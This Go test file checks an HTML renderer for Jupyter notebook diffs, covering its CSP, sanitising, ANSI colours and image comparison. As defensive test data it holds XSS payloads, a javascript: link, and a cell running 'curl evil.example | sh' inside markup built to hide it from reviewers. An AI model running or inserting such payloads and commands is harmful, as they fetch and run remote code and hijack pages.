package htmldiff

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"flag"
	"image"
	"image/color"
	"image/png"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	nethtml "golang.org/x/net/html"

	"github.com/nbtools/nbdiff/diff"
	"github.com/nbtools/nbdiff/notebook"
)

var update = flag.Bool("update", false, "rewrite the golden outlines in testdata/")

// A pair of notebooks of ../testdata that the tests render.
type pair struct {
	name, old, new string
}

var pairs = []pair{
	{"review", "../testdata/html/old.ipynb", "../testdata/html/new.ipynb"},
	{"demo", "../testdata/demo/before.ipynb", "../testdata/demo/after.ipynb"},
	{"added", "/dev/null", "../testdata/notebooks/all-outputs-v4.5.ipynb"},
}

// load parses a notebook; /dev/null is absent.
func load(t testing.TB, path string) *notebook.Notebook {
	t.Helper()
	if path == os.DevNull {
		return nil
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	nb, err := notebook.Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	return nb
}

// render returns the page of two notebooks and their diff, the way
// nbdiff --html compares them (outputs compared, execution counts
// stripped for the comparison and shown).
func render(t testing.TB, oldPath, newPath string, opts Options) ([]byte, *diff.Result) {
	t.Helper()
	a, b := load(t, oldPath), load(t, newPath)
	compare := func(nb *notebook.Notebook) *notebook.Notebook {
		if nb == nil {
			return nil
		}
		notebook.Strip(nb, notebook.StripOptions{KeepOutputs: true, KeepCounts: true})
		c := nb.Clone()
		notebook.Strip(c, notebook.StripOptions{KeepOutputs: true})
		return c
	}
	r := diff.Notebooks(compare(a), compare(b), diff.Options{Outputs: true})
	var buf bytes.Buffer
	err := Render(&buf, []File{{OldPath: oldPath, NewPath: newPath, Diff: r, Old: a, New: b}}, opts)
	if err != nil {
		t.Fatal(err)
	}
	return buf.Bytes(), r
}

// changedCells counts the cells the text diff shows.
func changedCells(r *diff.Result) int {
	n := 0
	for k := range r.Cells {
		if r.Cells[k].Changed() {
			n++
		}
	}
	return n
}

// outline returns the structure of a page: one line per element, indented
// by depth, with its id, classes and the attributes that say what it does;
// short texts of headings, labels and notes; the contents of style and
// script elements as their length and hash. It leaves out what golden
// files should not pin: colours, the code's text, the images' bytes.
func outline(page []byte) string {
	var out strings.Builder
	z := nethtml.NewTokenizer(bytes.NewReader(page))
	depth := 0
	var stack []string
	skipText := 0 // inside code
	void := map[string]bool{"meta": true, "img": true, "input": true, "col": true, "br": true, "hr": true, "link": true}
	for {
		tt := z.Next()
		if tt == nethtml.ErrorToken {
			break
		}
		tok := z.Token()
		switch tt {
		case nethtml.StartTagToken, nethtml.SelfClosingTagToken:
			line := strings.Repeat("  ", depth) + tok.Data
			var attrs []string
			cls := ""
			for _, a := range tok.Attr {
				switch a.Key {
				case "id":
					line += "#" + a.Val
				case "class":
					cls = a.Val
				case "data-img", "data-mode", "data-view", "data-set-view", "sandbox", "hidden", "open", "type", "aria-pressed", "data-change", "colspan", "lang":
					attrs = append(attrs, a.Key+"="+a.Val)
				case "content":
					if !strings.Contains(a.Val, "script-src") { // the CSP holds the script's hash
						attrs = append(attrs, a.Key+"=<"+short(a.Val)+">")
					}
				case "srcdoc", "src":
					attrs = append(attrs, a.Key+"=<"+short(a.Val)+">")
				}
			}
			if cls != "" {
				line += "." + strings.ReplaceAll(cls, " ", ".")
			}
			if len(attrs) > 0 {
				line += " [" + strings.Join(attrs, " ") + "]"
			}
			out.WriteString(line + "\n")
			if tt == nethtml.StartTagToken && !void[tok.Data] {
				stack = append(stack, tok.Data)
				depth++
				if tok.Data == "td" && strings.Contains(cls, "d-c") || tok.Data == "pre" {
					skipText++
				}
				if tok.Data == "style" || tok.Data == "script" {
					// The page's own CSS and script are not pinned here
					// (TestPageIsSafe checks the script's hash); the
					// images' JSON is.
					z.Next()
					if tok.Data == "script" && len(tok.Attr) > 0 {
						out.WriteString(strings.Repeat("  ", depth) + "(" + short(string(z.Text())) + ")\n")
					}
				}
			}
		case nethtml.EndTagToken:
			if n := len(stack); n > 0 {
				if top := stack[n-1]; top == "td" && skipText > 0 || top == "pre" && skipText > 0 {
					skipText--
				}
				stack = stack[:n-1]
				depth--
			}
		case nethtml.TextToken:
			text := strings.TrimSpace(tok.Data)
			if text == "" || skipText > 0 {
				continue
			}
			if len(text) > 48 {
				text = text[:48] + "..."
			}
			out.WriteString(strings.Repeat("  ", depth) + strings.Join(strings.Fields(text), " ") + "\n")
		}
	}
	return out.String()
}

// short names long content by its length and hash.
func short(s string) string {
	if len(s) <= 40 {
		return s
	}
	h := sha256.Sum256([]byte(s))
	return strings.Join([]string{"len", strconv.Itoa(len(s)), "sha256", base64.RawURLEncoding.EncodeToString(h[:6])}, " ")
}

// TestGoldenOutline compares the outline of each test pair's page with
// testdata/NAME.outline (go test -update rewrites them).
func TestGoldenOutline(t *testing.T) {
	for _, p := range pairs {
		t.Run(p.name, func(t *testing.T) {
			page, _ := render(t, p.old, p.new, Options{Title: "nbdiff " + p.name})
			got := outline(page)
			path := filepath.Join("testdata", p.name+".outline")
			if *update {
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test -update)", err)
			}
			if d := cmp.Diff(string(want), got); d != "" {
				t.Errorf("outline of %s (-want +got):\n%s", p.name, d)
			}
		})
	}
}

// TestDeterministic: the same input gives the same bytes.
func TestDeterministic(t *testing.T) {
	a, _ := render(t, pairs[0].old, pairs[0].new, Options{})
	b, _ := render(t, pairs[0].old, pairs[0].new, Options{})
	if !bytes.Equal(a, b) {
		t.Error("two renderings of the same pair differ")
	}
}

// TestPageIsSafe checks, in the HTML itself, what keeps the page from
// running anything of the notebook's or loading anything: a CSP that
// allows nothing from outside and only the page's own script (by its
// hash), no other script, no event handler attribute, no source that is
// not a data URI, sandboxed frames without scripts, SVG never inline.
func TestPageIsSafe(t *testing.T) {
	for _, p := range pairs {
		t.Run(p.name, func(t *testing.T) {
			page, _ := render(t, p.old, p.new, Options{UnchangedOutputs: true})
			frames := checkSafe(t, page)
			if p.name == "review" && frames == 0 {
				t.Error("no frame for the HTML output")
			}
		})
	}
}

// TestHostileNotebook renders notebooks whose every string tries to get
// out of its place (a cell type of a future minor version, ids, metadata,
// mime types, stream names, counts, attachment names, image data) and
// checks the page as TestPageIsSafe does.
func TestHostileNotebook(t *testing.T) {
	const x = `\"><img src=x onerror=alert(1)><script>alert(2)</script>`
	nb := func(v string) string {
		return `{"cells": [
 {"cell_type": "` + x + `", "id": "a` + x + `", "metadata": {"` + x + `": "` + x + v + `"}, "source": "` + x + v + `"},
 {"cell_type": "code", "execution_count": 1, "id": "b", "metadata": {}, "source": "print('` + v + `')",
  "outputs": [
   {"output_type": "stream", "name": "` + x + `", "text": "` + x + v + `"},
   {"output_type": "execute_result", "execution_count": 2, "metadata": {"image/png": {"width": "` + x + `"}},
    "data": {"image/png": "` + x + v + `", "text/plain": "` + x + `", "application/x-` + x + `": "` + v + `"}},
   {"output_type": "display_data", "metadata": {}, "data": {"text/html": "<b onclick=alert(3)>` + v + `</b><iframe src=https://e.com></iframe>` + x + `"}},
   {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": "` + x + v + ` ![i](javascript:alert(4))"}},
   {"output_type": "error", "ename": "` + x + `", "evalue": "` + v + `", "traceback": ["\u001b[31m` + x + `"]}
  ]},
 {"cell_type": "markdown", "id": "c", "metadata": {}, "source": "![p](attachment:` + x + `) ` + v + `",
  "attachments": {"` + x + `": {"image/png": "` + x + `"}}}
], "metadata": {"kernelspec": {"language": "` + x + `"}}, "nbformat": 4, "nbformat_minor": 99}`
	}
	a, err := notebook.Parse([]byte(nb("old")))
	if err != nil {
		t.Fatal(err)
	}
	b, err := notebook.Parse([]byte(nb("new")))
	if err != nil {
		t.Fatal(err)
	}
	r := diff.Notebooks(a, b, diff.Options{Outputs: true, Metadata: true})
	var buf bytes.Buffer
	if err := Render(&buf, []File{{OldPath: x, NewPath: x, Diff: r, Note: x}}, Options{Title: x, UnchangedOutputs: true}); err != nil {
		t.Fatal(err)
	}
	checkSafe(t, buf.Bytes())
	if bytes.Contains(buf.Bytes(), []byte("<img src=x")) || bytes.Contains(buf.Bytes(), []byte("<script>alert")) {
		t.Error("hostile markup got into the page")
	}
}

// checkSafe checks the HTML of a page for what keeps it from running
// anything of the notebook's or loading anything, and returns the number
// of frames.
func checkSafe(t *testing.T, page []byte) int {
	t.Helper()
	z := nethtml.NewTokenizer(bytes.NewReader(page))
	var csp string
	var scripts []string
	frames := 0
	for {
		tt := z.Next()
		if tt == nethtml.ErrorToken {
			break
		}
		tok := z.Token()
		if tt != nethtml.StartTagToken && tt != nethtml.SelfClosingTagToken {
			continue
		}
		attr := map[string]string{}
		for _, a := range tok.Attr {
			attr[a.Key] = a.Val
			if strings.HasPrefix(a.Key, "on") {
				t.Errorf("<%s %s=...>: an event handler in the page", tok.Data, a.Key)
			}
			if (a.Key == "src" || a.Key == "href" && tok.Data != "a") && !strings.HasPrefix(a.Val, "data:") {
				t.Errorf("<%s %s=%q>: loads something", tok.Data, a.Key, a.Val)
			}
			if a.Key == "href" && strings.HasPrefix(strings.ToLower(strings.TrimSpace(a.Val)), "javascript:") {
				t.Errorf("<%s href=%q>: runs something", tok.Data, a.Val)
			}
		}
		switch tok.Data {
		case "meta":
			if attr["http-equiv"] == "Content-Security-Policy" {
				csp = attr["content"]
			}
		case "script":
			z.Next()
			if attr["type"] != "application/json" {
				scripts = append(scripts, string(z.Text()))
			}
		case "iframe":
			frames++
			if sb, ok := attr["sandbox"]; !ok || strings.Contains(sb, "allow-scripts") {
				t.Errorf("iframe sandbox=%q: scripts could run", sb)
			}
			if doc := strings.ToLower(attr["srcdoc"]); strings.Contains(doc, "<script") || strings.Contains(doc, "<iframe") || strings.Contains(doc, "onclick") {
				t.Errorf("an HTML output keeps active content: %.200s", doc)
			}
		case "svg":
			t.Error("inline <svg> in the page")
		}
	}
	if len(scripts) != 1 {
		t.Fatalf("%d executable scripts, want the page's own", len(scripts))
	}
	for _, want := range []string{"default-src 'none'", "img-src data:", "script-src " + hashSource(scripts[0]) + ";"} {
		if !strings.Contains(csp, want) {
			t.Errorf("CSP %q lacks %q", csp, want)
		}
	}
	return frames
}

// TestImagesStoredOnce: a data URI appears once in the page however often
// the image shows.
func TestImagesStoredOnce(t *testing.T) {
	page, _ := render(t, pairs[0].old, pairs[0].new, Options{UnchangedOutputs: true})
	uris := regexp.MustCompile(`data:image/[a-z+]+;base64,[A-Za-z0-9+/=]+`).FindAll(page, -1)
	seen := map[string]bool{}
	for _, u := range uris {
		if seen[string(u)] {
			t.Errorf("image stored twice: %.60s...", u)
		}
		seen[string(u)] = true
	}
	if len(seen) < 5 {
		t.Errorf("%d images in the page, want the outputs, attachments and differences", len(seen))
	}
}

// TestChangedCellsShown: the page shows as changed the cells the text diff
// shows, and folds the others.
func TestChangedCellsShown(t *testing.T) {
	for _, p := range pairs {
		page, r := render(t, p.old, p.new, Options{})
		if got, want := bytes.Count(page, []byte(" data-change>")), changedCells(r); got != want {
			t.Errorf("%s: %d changed cells shown, the text diff shows %d", p.name, got, want)
		}
	}
}

func TestWriteANSI(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"plain <b>", "plain &lt;b&gt;"},
		{"\x1b[0;31mKeyError\x1b[0m: 'x'", `<span class="af1">KeyError</span>: &#39;x&#39;`},
		{"\x1b[1;32mok\x1b[39m bold\x1b[0m", `<span class="af2 abold">ok</span><span class="abold"> bold</span>`},
		{"\x1b[38;5;124mred\x1b[0m", `<span style="color:rgb(175,0,0)">red</span>`},
		{"\x1b[38;2;1;2;3mrgb\x1b[m", `<span style="color:rgb(1,2,3)">rgb</span>`},
		{"\x1b[2Kcleared\x1b]0;title\x07.", "cleared."},
		{"unterminated \x1b[31", "unterminated "},
	} {
		var b strings.Builder
		writeANSI(&b, c.in)
		if b.String() != c.want {
			t.Errorf("writeANSI(%q) = %q, want %q", c.in, b.String(), c.want)
		}
	}
}

func TestWriteLineMarks(t *testing.T) {
	toks := []tok{{"k", "import"}, {"", " "}, {"nn", "pandas"}}
	var b strings.Builder
	writeLine(&b, toks, []diff.Range{{Start: 3, End: 9}, {Start: 10, End: 12}})
	want := `<span class="k">imp</span><mark><span class="k">ort</span> <span class="nn">pa</span></mark><span class="nn">n</span><mark><span class="nn">da</span></mark><span class="nn">s</span>`
	if b.String() != want {
		t.Errorf("writeLine:\n got %s\nwant %s", b.String(), want)
	}
}

func pngData(t *testing.T, w, h int, at func(x, y int) color.Color, level png.CompressionLevel) string {
	img := image.NewNRGBA(image.Rect(0, 0, w, h))
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			img.Set(x, y, at(x, y))
		}
	}
	var buf bytes.Buffer
	if err := (&png.Encoder{CompressionLevel: level}).Encode(&buf, img); err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

func TestCompareImages(t *testing.T) {
	white := func(x, y int) color.Color { return color.White }
	dot := func(x, y int) color.Color {
		if x < 2 && y < 5 {
			return color.Black
		}
		return color.White
	}
	a := pngData(t, 10, 10, white, png.NoCompression)
	same := pngData(t, 10, 10, white, png.BestCompression)
	changed := pngData(t, 10, 10, dot, png.NoCompression)
	bigger := pngData(t, 12, 10, white, png.NoCompression)
	store := newImageStore()
	if d := compareImages("x", "image/png", a, "image/png", same, store); !d.Same || a == same {
		t.Errorf("re-encoded image: %+v", d)
	}
	if d := compareImages("x", "image/png", a, "image/png", changed, store); d.Same || d.Changed != 10 || d.Total != 100 || d.Diff == "" {
		t.Errorf("10 pixels changed: %+v", d)
	}
	if d := compareImages("x", "image/png", a, "image/png", bigger, store); d.Changed != 20 || d.Total != 120 || d.NewW != 12 {
		t.Errorf("2 columns added: %+v", d)
	}
	if d := compareImages("x", "image/png", a, "image/png", "bm90IGFuIGltYWdl", store); d.Compared || d.Note == "" {
		t.Errorf("not an image: %+v", d)
	}
}

func TestMarkdown(t *testing.T) {
	r := newRenderers()
	store := newImageStore()
	att := notebook.ObjectValue(notebook.Member{Key: "a.png", Value: notebook.ObjectValue(
		notebook.Member{Key: "image/png", Value: notebook.StringValue(pngData(t, 2, 2, func(x, y int) color.Color { return color.Black }, png.NoCompression))})})
	got := r.markdown("# Title\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\nSum $a_1 + a_2$ and $5 or $6, then\n\n$$\\int_0^1 x\\,dx$$\n\n"+
		"<script>alert(1)</script><img src=x onerror=alert(2)>\n\n![p](attachment:a.png) ![q](https://example.com/q.png) <a href=\"javascript:alert(3)\">j</a>",
		&att, store)
	for _, want := range []string{"<h1>Title</h1>", "<table>", `<th align="right">b</th>`, `<span class="math">a_1 + a_2</span>`,
		"$5 or $6", `<span class="math display">\int_0^1 x\,dx</span>`, `data-img="i`, `[q: https://example.com/q.png]`} {
		if !strings.Contains(got, want) {
			t.Errorf("markdown lacks %q:\n%s", want, got)
		}
	}
	for _, bad := range []string{"<script", "onerror", "alert(1)", "javascript:", `src="https`} {
		if strings.Contains(got, bad) {
			t.Errorf("markdown keeps %q:\n%s", bad, got)
		}
	}
	html, scripts := r.htmlOutput(`<style>td{color:red}</style><table><tr><td style="color:blue">1</td></tr></table><script>x()</script><img src="https://e.com/t.png">`)
	if !scripts || strings.Contains(html, "<script") || !strings.Contains(html, "td{color:red}") || !strings.Contains(html, `style="color:blue"`) || strings.Contains(html, `src="https`) {
		t.Errorf("HTML output sanitized to %s (scripts %v)", html, scripts)
	}
}

// TestMarkdownStaysInItsCell: a notebook's markdown cannot close the
// page's elements around it (end tags of its own, then a fold that would
// hide the cells after it) nor take the ids of the page's own elements
// (the images' store, a cell's anchor): found by a probe, every case
// changed what a reviewer sees.
func TestMarkdownStaysInItsCell(t *testing.T) {
	const trap = `Small wording fix.\n\n</div></div></details></article></section></main><details><summary>hidden by a notebook</summary>\n\n` +
		`<span id=\"nbd-images\">x</span> <p id=\"f0-c1\">anchor</p> [to the anchor](#f0-c1)`
	parse := func(cells string) *notebook.Notebook {
		n, err := notebook.Parse([]byte(`{"cells": [` + cells + `], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}`))
		if err != nil {
			t.Fatal(err)
		}
		return n
	}
	oldNB := parse(`{"cell_type": "markdown", "id": "i", "metadata": {}, "source": "intro"},
 {"cell_type": "code", "execution_count": null, "id": "c", "metadata": {}, "outputs": [], "source": "x = 1"}`)
	newNB := parse(`{"cell_type": "markdown", "id": "m", "metadata": {}, "source": "` + trap + `"},
 {"cell_type": "markdown", "id": "i", "metadata": {}, "source": "intro"},
 {"cell_type": "code", "execution_count": 1, "id": "c", "metadata": {}, "source": "import os; os.system('curl evil.example | sh')", "outputs": [
  {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": "` + trap + `"}}]}`)
	r := diff.Notebooks(oldNB, newNB, diff.Options{Outputs: true})
	var buf bytes.Buffer
	if err := Render(&buf, []File{{OldPath: "a.ipynb", NewPath: "a.ipynb", Diff: r}}, Options{}); err != nil {
		t.Fatal(err)
	}
	doc, err := nethtml.Parse(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	ids := map[string]int{}
	var hidden []string // texts inside a fold the notebook opened
	var walk func(n *nethtml.Node, inTrap bool)
	walk = func(n *nethtml.Node, inTrap bool) {
		if n.Type == nethtml.ElementNode {
			for _, a := range n.Attr {
				if a.Key == "id" {
					ids[a.Val]++
				}
			}
			if n.Data == "details" {
				for c := n.FirstChild; c != nil; c = c.NextSibling {
					if c.Type == nethtml.ElementNode {
						inTrap = inTrap || c.Data == "summary" && textOf(c) == "hidden by a notebook"
						break
					}
				}
			}
		}
		if n.Type == nethtml.TextNode && inTrap && strings.Contains(n.Data, "curl evil") {
			hidden = append(hidden, n.Data)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c, inTrap)
		}
	}
	walk(doc, false)
	for id, n := range ids {
		if n > 1 && !strings.HasPrefix(id, "user-content-") {
			t.Errorf("id %q on %d elements", id, n)
		}
	}
	if ids["user-content-nbd-images"] == 0 || ids["user-content-f0-c1"] == 0 {
		t.Errorf("the notebook's ids are not kept with their prefix: %v", ids)
	}
	if len(hidden) > 0 {
		t.Errorf("the next cell's code sits in the notebook's fold: %q", hidden)
	}
	if !bytes.Contains(buf.Bytes(), []byte(`href="#user-content-f0-c1"`)) {
		t.Error("a link to the notebook's own anchor does not follow its id")
	}
}

// textOf returns the text below n.
func textOf(n *nethtml.Node) string {
	if n.Type == nethtml.TextNode {
		return n.Data
	}
	var b strings.Builder
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		b.WriteString(textOf(c))
	}
	return b.String()
}
